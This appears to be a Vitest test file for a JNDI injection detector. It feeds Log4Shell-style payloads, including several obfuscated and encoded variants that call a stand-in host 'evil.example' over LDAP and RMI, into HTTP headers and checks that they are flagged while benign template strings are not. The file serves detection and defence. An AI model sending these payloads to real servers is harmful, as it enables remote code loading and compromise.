import { describe, expect, it } from 'vitest';
import { createInjectionInspector } from '../create-injection-inspector.js';

const inspector = createInjectionInspector();

describe('jndi detector', () => {
  it.each([
    '${jndi:ldap://evil.example/a}',
    '${jndi:rmi://evil.example/a}',
    '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}',
    '${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//evil.example/a}',
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}',
    '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
    '\\u0024{jndi:ldap://evil.example/a}',
  ])('fires on %j in any header, even a structured one', (value) => {
    for (const header of ['user-agent', 'x-api-version', 'accept', 'authorization']) {
      const hits = inspector.inspect({ headers: { [header]: value } });
      expect(hits.some((h) => h.class === 'jndi' && h.location === `header.${header}`)).toBe(true);
    }
  });

  it.each(['${HOME}', 'Hello ${name}!', 'jndi is a Java API', '{"a":"${x}"}'])(
    'does not fire on %j',
    (value) => {
      expect(inspector.inspectValue(value, 'header.user-agent').some((h) => h.class === 'jndi')).toBe(false);
    },
  );
});
